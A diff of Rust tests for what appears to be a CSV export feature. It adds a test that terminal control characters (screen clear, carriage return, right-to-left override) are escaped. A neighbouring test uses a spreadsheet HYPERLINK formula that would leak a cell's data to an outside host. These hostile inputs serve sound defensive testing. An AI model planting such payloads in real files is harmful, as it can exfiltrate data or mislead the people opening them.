@@ -137,6 +137,16 @@ fn words_of_a_vendor_are_never_put_into_a_recording_s_names() {
 }
 
 #[test]
+fn no_cell_of_a_csv_file_steers_a_terminal() {
+    let folder = tempfile::tempdir().unwrap();
+    let file = changed("leak.pickle", &folder.path().join("f.pickle"), |text: &str| format!("\x1b[2J\r\u{202e}{text}"));
+    let out = folder.path().join("stacks.csv").display().to_string();
+    assert!(run(&["export", &file, "--to", "csv", &out, "--table", "stacks"]).status.success());
+    let csv = std::fs::read_to_string(&out).unwrap();
+    assert!(csv.contains("\\u001b[2J\\u000d\\u202e") && !csv.contains(['\x1b', '\r', '\u{202e}']), "{}", &csv[..400]);
+}
+
+#[test]
 fn no_cell_of_a_csv_file_is_a_formula() {
     let folder = tempfile::tempdir().unwrap();
     let text = |text: &str| format!("=HYPERLINK(\"http://x/\"&A1)|{text}");
